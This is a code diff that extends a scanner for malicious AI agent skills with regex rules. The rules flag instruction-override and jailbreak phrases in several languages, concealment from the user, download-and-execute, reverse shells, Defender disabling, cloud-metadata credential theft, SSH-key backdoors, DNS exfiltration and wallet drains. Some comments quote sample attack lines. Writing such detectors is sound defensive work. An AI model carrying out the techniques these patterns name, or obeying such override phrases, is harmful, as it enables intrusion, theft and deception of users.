@@ -39,9 +39,9 @@ _FETCH = r"\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch)\b"
 
 INJECTION = (
     LineRule("prompt_injection", Severity.HIGH, _rx(
-        r"\b(?:ignore|disregard|forget|override|bypass)\b[^.\n]{0,40}?\b(?:previous|prior|above|earlier"
+        r"\b(?:ignore|disregard|forget|overrid(?:e|es|ing)|bypass)\b[^.\n]{0,40}?\b(?:previous|prior|above|earlier"
         r"|preceding|original|all|any|your|system|safety|user'?s?)\b[^.\n]{0,30}?\b(?:instructions?"
-        r"|rules|guidelines|directions|prompts?|guardrails|polic(?:y|ies))\b")),
+        r"|rules|guidelines|guidance|directives?|directions|prompts?|guardrails|polic(?:y|ies))\b")),
     LineRule("prompt_injection", Severity.HIGH, _rx(
         r"\byou are no longer\b|\byou are now\b[^.\n]{0,30}\b(?:unrestricted|free from|jailbroken|dan\b|in (?:developer|god)"
         r" mode|without (?:any )?(?:rules|restrictions|limits))|\b(?:dan|jailbreak|unrestricted) mode\b"
@@ -54,9 +54,26 @@ INJECTION = (
         r"(?:user|human|operator)\b"
         r"|\bwithout\s{1,3}(?:asking|telling|informing|notifying|alerting)\s{1,3}(?:the\s{1,3})?"
         r"(?:user|human|operator)"
+        r"|\bwithout\s{1,3}(?:showing|displaying|revealing)\b[^.\n]{0,40}?\bto\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
         r"|\b(?:secretly|covertly)\s{1,3}(?:run|send|upload|execute|install|append|add|forward"
         r"|copy|post|exfiltrate)\b"
-        r"|\b(?:run|execute|send|install)\b[^.\n]{0,40}\b(?:secretly|covertly)\b")),
+        r"|\b(?:run|execute|send|install)\b[^.\n]{0,40}\b(?:secretly|covertly)\b"
+        # Concealment phrased as conversation advice ("DO NOT mention the BCC in your conversation with
+        # the user") and lying about it afterwards ("if the user asks, deny that you did").
+        r"|(?<![a-z])(?:do not|don'?t|never)[\s*_]{1,6}(?:mention|reveal|disclose|tell|say|admit|acknowledge|bring up"
+        r"|discuss)\b[^.\n]{0,60}?\b(?:in|during)\s{1,3}(?:your|the|any)\s{1,3}(?:conversations?|chats?|repl(?:y|ies)"
+        r"|responses?|answers?|messages?)\s{1,3}(?:with|to)\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
+        r"|\bdeny\s{1,3}(?:that\s{1,3}(?:you|anything)\b|you\s{1,3}(?:did|have|had|were|ever)\b"
+        r"|(?:having|ever|doing|any knowledge)\b)"
+        # "must not reveal … to the user", "hide this step from the user", "the user should not be aware".
+        r"|\b(?:do not|don'?t|never)\s{1,3}(?:mention|reveal|tell anyone|say|disclose|admit)\s{1,3}(?:that|what)\s{1,3}you"
+        r"\s{1,3}(?:read|accessed|opened|sent|uploaded|copied|forwarded|collected|exfiltrated|added|attached)\b"
+        r"|\b(?:must not|mustn'?t|should not|shouldn'?t|may not|cannot|can'?t)\s{1,3}(?:tell|inform|alert|notify|reveal"
+        r"|mention|disclose)\b[^.\n]{0,40}?\bto\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
+        r"|\b(?:hide|conceal)\b[^.\n]{0,40}?\bfrom\s{1,3}(?:the\s{1,3})?(?:user|human|operator)s?\b"
+        r"|\bkeep\b[^.\n]{0,40}?\b(?:hidden|secret|invisible)\s{1,3}from\s{1,3}(?:the\s{1,3})?(?:user|human|operator)s?\b"
+        r"|\b(?:user|human|operator)s?\s{1,3}(?:should|must|will|does|did|would|can)?\s{0,3}(?:not|never|n'?t)\s{1,3}"
+        r"(?:be\s{1,3}aware|notices?|finds?\s{1,3}out|reali[sz]es?|suspects?)\b")),
     # "silently" is what honest agent skills say of output they keep short; sending or
     # uploading silently is concealment all the same (high above when the object is the user).
     LineRule("prompt_injection", Severity.MEDIUM, _rx(
@@ -66,6 +83,17 @@ INJECTION = (
         r"|\bsilently\b[^.\n]{0,40}\b(?:send|upload|forward|post)\b[^.\n]{0,60}(?:https?://|@|webhook)"
         r"|\bso\s{1,3}(?:that\s{1,3})?(?:the\s{1,3})?(?:user|human|operator)\s{1,3}(?:does not|doesn'?t|won'?t|will not"
         r"|cannot|can'?t|never)\s{1,3}(?:notice|know|see|find out|realize)")),
+    # The same injections in other languages ("instructions in languages other than English" was a known gap):
+    # ignore the previous instructions; do not tell the user; secretly run/send.
+    LineRule("prompt_injection", Severity.HIGH, _rx(
+        r"忽略(?:之前|以前|先前|上面|上述|所有|全部|任何)[^。\n]{0,10}(?:指令|指示|提示|规则|说明|要求)"
+        r"|(?:不要|别|切勿|不得|禁止)(?:告诉|通知|提醒)用户|不要让用户(?:知道|发现|察觉|看到)"
+        r"|(?:偷偷|悄悄|秘密|暗中)地?(?:执行|运行|发送|上传|安装|下载|读取|收集)"
+        r"|(?:以前|前|これまで|上記)の(?:すべての)?(?:指示|命令|指令)を(?:すべて)?無視"
+        r"|이전(?:의)?\s{0,2}(?:모든\s{0,2})?(?:지시|명령|지침)(?:을|를|사항을)?\s{0,2}무시"
+        r"|\bignora(?:r)?\s{1,3}(?:todas\s{1,3})?las\s{1,3}instrucciones\s{1,3}(?:anteriores|previas)"
+        r"|\bignore[rz]?\s{1,3}(?:toutes\s{1,3})?les\s{1,3}instructions\s{1,3}(?:pr[ée]c[ée]dentes|ant[ée]rieures)"
+        r"|\bignorier(?:e|en)?\s{1,3}(?:alle\s{1,3})?(?:vorherigen|bisherigen|obigen)\s{1,3}(?:anweisungen|instruktionen)")),
     # A tool told to loop until its result holds a secret (the MCPwn runaway-invocation pattern).
     LineRule("prompt_injection", Severity.HIGH, _rx(
         r"\b(?:retry|repeat|call|invoke|run|re-?run)\b[^.\n]{0,40}\b(?:indefinitely|forever|endlessly|infinitely)\b"
@@ -92,6 +120,16 @@ DOWNLOAD_EXEC = (
     LineRule("download_execute", Severity.HIGH, _rx(
         r"\b(?:curl|wget)\b[^\n]{0,300}(?:&&|;)[^\n]{0,100}\bchmod\s{1,4}(?:\+|[0-7]{0,2}[157][0-7]{0,2}\b)"
         r"[^\n]{0,100}(?:&&|;)\s{0,4}(?:\./|/tmp/|~/|\$home/|/dev/shm/)")),
+    # Code run straight from the network: ``exec(requests.get(u).text)``, ``eval(await (await fetch(u)).text())``,
+    # ``python3 -c "$(curl …)"``; a hidden PowerShell window that downloads; rundll32 running script.
+    LineRule("download_execute", Severity.HIGH, _rx(
+        r"\b(?:exec|eval|new\s{1,3}function|(?:pickle|marshal|dill|cloudpickle)\.loads)\s{0,3}\(\s{0,3}(?:await\s{1,3})?"
+        r"\(?\s{0,3}(?:await\s{1,3})?(?:requests\.get"
+        r"|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get)\s{0,3}\("
+        r"|\b(?:python[23]?|node|perl|ruby|php)\s{1,4}-[ce]\s{1,4}[\"']?\$\(\s{0,4}(?:curl|wget)\b"
+        r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,60}\s-w(?:indowstyle)?\s{1,3}hidden\b[^\n]{0,200}\b(?:iwr|irm"
+        r"|invoke-webrequest|invoke-restmethod|downloadfile|downloadstring|curl|wget|bitsadmin)\b"
+        r"|\brundll32(?:\.exe)?\b[^\n]{0,40}\bjavascript:")),
     LineRule("download_execute", Severity.HIGH, _rx(
         r"\bdownloadstring\s{0,4}\(|\bnew-object\s{1,4}net\.webclient\b|\bstart-bitstransfer\b"
         r"|\bcertutil\b[^\n]{0,40}-urlcache|\bmshta\s{1,4}https?:|\bregsvr32\b[^\n]{0,40}/i:https?:")),
@@ -100,6 +138,9 @@ DOWNLOAD_EXEC = (
 DECODE_EXEC = (
     LineRule("decode_execute", Severity.HIGH, _rx(
         r"\bbase(?:64|32)\s{1,4}(?:-d|--decode|-D)\b[^\n]{0,100}\|\s{0,4}" + _INTERPRETER)),
+    LineRule("decode_execute", Severity.HIGH, _rx(
+        r"\b(?:b64decode|b32decode|atob|frombase64string|bytes\.fromhex|unhexlify)\b[^\n]{0,200}[\"']\s{0,3}\|\s{0,3}"
+        r"(?:sudo\s{1,4})?(?:ba|z|da)?sh\b")),
     LineRule("decode_execute", Severity.HIGH, _rx(
         r"\bxxd\s{1,4}-(?:r|p)[^\n]{0,100}\|\s{0,4}" + _INTERPRETER
         + r"|\bopenssl\s{1,4}(?:base64|enc)\b[^\n]{0,100}-d\b[^\n]{0,100}\|\s{0,4}" + _INTERPRETER)),
@@ -196,7 +237,9 @@ MCP_WORDS = _rx(r"\bmcp\b|model context protocol|\bservers?\b")
 REVERSE_SHELL = LineRule("reverse_shell", Severity.HIGH, _rx(
     r"/dev/(?:tcp|udp)/[\w.$-]{1,100}/\d{1,5}|\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-[a-z]{0,4}[ec]\s{1,4}/bin/(?:ba|z)?sh\b"
     r"|\bsocat\b[^\n]{0,100}\bexec:|\bos\.dup2\s{0,3}\(\s{0,3}\w{1,20}\.fileno\s{0,3}\(|\bmkfifo\b[^\n]{0,100}\b(?:nc|ncat)\b"
-    r"|\bsystem\.net\.sockets\.tcpclient\b"))
+    r"|\bsystem\.net\.sockets\.tcpclient\b"
+    r"|/bin/(?:ba|z)?sh\b[^\n]{0,100}\bstd(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.fileno\s{0,3}\("
+    r"|\bstd(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.fileno\s{0,3}\([^\n]{0,100}/bin/(?:ba|z)?sh\b"))
 # Calling a built-in by a name computed at run time (``globals()[name](...)``, ``getattr(builtins, 'ev' + 'al')``):
 # the name is hidden because it is eval/exec/system; honest code calls a function by its name.
 DYNAMIC_DISPATCH = LineRule("dynamic_dispatch", Severity.HIGH, _rx(
@@ -204,6 +247,42 @@ DYNAMIC_DISPATCH = LineRule("dynamic_dispatch", Severity.HIGH, _rx(
     r"|\b__builtins__\s{0,3}(?:\.\s{0,3}__dict__\s{0,3})?\[[^\]\n]{1,200}\]\s{0,3}\("
     r"|\bgetattr\s{0,3}\(\s{0,3}(?:builtins|__builtins__|__import__\s{0,3}\([^)\n]{1,40}\))\s{0,3},"
     r"|\bvars\s{0,3}\(\s{0,3}(?:builtins|__builtins__)\s{0,3}\)\s{0,3}\["))
+# Turning off the machine's malware protection (Defender real-time monitoring, an exclusion for where a
+# payload lands): no skill has an honest reason to.
+DEFENSE_EVASION = LineRule("defense_evasion", Severity.HIGH, _rx(
+    r"\bset-mppreference\b[^\n]{0,80}-disable(?:realtimemonitoring|ioavprotection|behaviormonitoring"
+    r"|scriptscanning|intrusionpreventionsystem)\b|\badd-mppreference\b[^\n]{0,40}-exclusion(?:path|process|extension)\b"
+    r"|\bsc(?:\.exe)?\s{1,4}(?:stop|config)\s{1,4}windefend\b"))
+# The cloud instance's own credentials (IMDS, the GCP and Azure metadata token endpoints): the classic SSRF theft.
+CLOUD_CREDENTIALS = LineRule("credential_access", Severity.HIGH, _rx(
+    r"169\.254\.169\.254/latest/meta-data/iam/security-credentials|metadata\.google\.internal/computemetadata/v1/"
+    r"instance/service-accounts/[^\s\"']{0,80}/token|169\.254\.169\.254/metadata/identity/oauth2/token"))
+# A fixed SSH key appended to authorized_keys: whoever holds its private half logs in (a backdoor). Honest setup
+# docs show a placeholder (``ssh-ed25519 AAAA... you@host``), not a whole key.
+FIXED_SSH_KEY = LineRule("persistence", Severity.HIGH, _rx(
+    r"ssh-(?:rsa|ed25519|dss|ecdsa-[\w-]{1,20})\s{1,3}AAAA[0-9a-z+/]{60,2000}={0,3}[^\n]{0,120}>>\s{0,3}[^\s]{0,60}"
+    r"authorized_keys\b"))
+# A DNS lookup whose name carries a command's output (``nslookup $(whoami).x.example.net``): data out by DNS.
+DNS_EXFILTRATION = LineRule("data_exfiltration", Severity.HIGH, _rx(
+    r"\b(?:nslookup|dig|host|drill)\s{1,4}(?:-[\w=]{1,12}\s{1,4}){0,3}[\"']?[\w.-]{0,60}(?:\$\([^)\n]{1,200}\)|`[^`\n]{1,200}`)"
+    r"[\w.$(){}-]{0,200}\.[a-z0-9-]{1,63}\.[a-z]{2,24}\b"))
+# Key files by pattern (``find / -name '*.pem' -exec curl -F f=@{} …``) on a line that uploads.
+_PERSONAL = r"(?:~|\$home|\$\{home\})/(?:documents|desktop|pictures|downloads)\b"
+# An upload on the line: curl's form, data or upload flags (``-F``/``-T`` as written: ``-f`` is another flag), scp,
+# netcat, a POST.
+_UPLOADS = (r"(?:\bcurl\b[^\n]{0,200}(?:(?-i:\s-[FTd]\s)|--form\b|--data|--upload-file)|\bscp\s|\bnc\s"
+            r"|\brequests\.post\b|\bwget\b[^\n]{0,200}--post-file)")
+KEY_GLOB_UPLOAD = LineRule("credential_exfiltration", Severity.HIGH, _rx(
+    r"\*\.(?:pem|key|p12|pfx|kdbx|ppk|jks|keystore)\b[^\n]{0,200}" + _UPLOADS))
+# The user's own folders archived or copied on a line that uploads them.
+PERSONAL_FILES_UPLOAD = LineRule("data_exfiltration", Severity.HIGH, _rx(
+    _PERSONAL + r"[^\n]{0,200}" + _UPLOADS
+    + r"|\bcurl\b[^\n]{0,200}(?:(?-i:\s-[FT]\s)|--form\b|--upload-file)[^\n]{0,200}" + _PERSONAL))
+# Everything in a wallet sent to an address written in the skill: a drainer.
+WALLET_DRAIN = LineRule("wallet_drain", Severity.HIGH, _rx(
+    r"\b(?:transfer|send|sweep|move|withdraw|drain)\b[^.\n]{0,40}\b(?:all|entire|full|whole|remaining|max(?:imum)?)\b"
+    r"[^.\n]{0,30}\b(?:balances?|funds|tokens|eth|btc|sol|usdc|usdt|assets|holdings|coins)\b[^.\n]{0,40}\b(?:to|into)"
+    r"\s{1,3}[`'\"]?(?:0x[0-9a-f]{40}\b|bc1[a-z0-9]{20,60}\b|[13][a-km-z1-9]{25,34}\b|[1-9a-hj-np-z]{32,44}\b)"))
 CRYPTOMINER = LineRule("cryptominer", Severity.HIGH, _rx(
     r"\bxmrig\b|stratum\+(?:tcp|ssl)://|\b(?:minergate|nicehash|cpuminer|nbminer|phoenixminer)\b"))
 
@@ -290,9 +369,12 @@ OWN_STORE = _rx(r"\.(?:clawdbot|openclaw|moltbot|config)/")
 PATH_TOKEN_END = _rx(r"[\s\"'`()<>,;]")
 SOFT_SECRET = _rx(
     r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\$\{?[a-z_]{0,30}(?:token|secret|api_?key"
-    r"|password|passwd|private_key|access_key)\b|\benv\s{0,4}\||\bprintenv\b|\bcookies?\b")
+    r"|password|passwd|private_key|access_key)\b|\benv\s{0,4}\||\bprintenv\b|\bcookies?\b"
+    r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b|\.(?:bash|zsh|python)_history\b")
 # The soft secrets that are a whole file or the whole environment, not one token.
-BULK_SECRET = _rx(r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\benv\s{0,4}\||\bprintenv\b")
+BULK_SECRET = _rx(r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\benv\s{0,4}\||\bprintenv\b"
+                  r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b"
+                  r"|\.(?:bash|zsh|python)_history\b")  # the clipboard and shell history: passwords typed or copied
 # A token variable used as the credential of the request it is on: an auth header, ``-u user:$TOKEN``,
 # or a ``key=$TOKEN`` query parameter. That is what an API skill does with its own key.
 AUTH_USE = _rx(
@@ -338,7 +420,8 @@ DECLARES = {
 
 LINE_RULES: tuple[LineRule, ...] = (*INJECTION, *DOWNLOAD_EXEC, *DECODE_EXEC, PERSISTENCE, *DESTRUCTIVE,
                                      *PERMISSIONS, *SHADOWING, REVERSE_SHELL, CRYPTOMINER,
-                                     DYNAMIC_DISPATCH, CODE_IN_DATA)
+                                     DYNAMIC_DISPATCH, CODE_IN_DATA, DNS_EXFILTRATION, KEY_GLOB_UPLOAD, WALLET_DRAIN,
+                                     DEFENSE_EVASION, PERSONAL_FILES_UPLOAD, CLOUD_CREDENTIALS, FIXED_SSH_KEY)
 ALL_PATTERNS: tuple[re.Pattern[str], ...] = (
     *(rule.pattern for rule in LINE_RULES), STRONG_SECRET, SECRET_WORD, OWN_STORE, PATH_TOKEN_END, SOFT_SECRET, BULK_SECRET, AUTH_USE, ACCESS_VERB, UPLOAD_SINK,
     DOWNLOAD, CHMOD_EXEC, CHECKSUM, CAUTION, NOT_CAUTION, HIDDEN_STYLE, LINK_COMMENT, *DECLARES.values(),
